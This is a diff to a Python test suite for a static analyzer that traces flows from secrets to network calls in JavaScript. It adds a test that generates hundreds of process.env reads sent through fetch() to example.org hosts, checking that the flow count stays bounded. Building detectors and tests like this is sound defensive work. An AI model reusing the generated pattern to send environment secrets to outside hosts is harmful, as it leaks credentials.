@@ -13,6 +13,7 @@ from verifier.extract import shell
 from verifier.extract.facts import DataFlow, Parsed, Risk
 from verifier.extract.javascript import extract_javascript, extract_javascript_snippet
 from verifier.extract.js import apply as js_apply
+from verifier.extract.js import flows as js_flows
 from verifier.model import Location
 
 FILE = Path("/skill/scripts/x.js")
@@ -333,3 +334,11 @@ def test_a_secret_kept_in_a_field_of_a_class() -> None:
     assert flows(source) == {("env.read(S_KEY)", 8, "net.connect(s.example.org)", 4,
                               ((8, "passed to Client() as key"),
                                (2, "stored in this.key")))}
+
+
+def test_sources_times_sinks_is_bounded() -> None:
+    reads = "".join(f"x = x + process.env.A{i};\n" for i in range(300))
+    sends = "".join(f'fetch("https://h{i}.example.org", {{ body: x }});\n' for i in range(300))
+    facts = extract('let x = "";\n' + reads + sends)
+    assert len(facts.flows) == js_flows.MAX_FLOWS
+    assert len({f.sink for f in facts.flows}) == js_flows.MAX_FLOWS // js_flows.MAX_SOURCES + 1
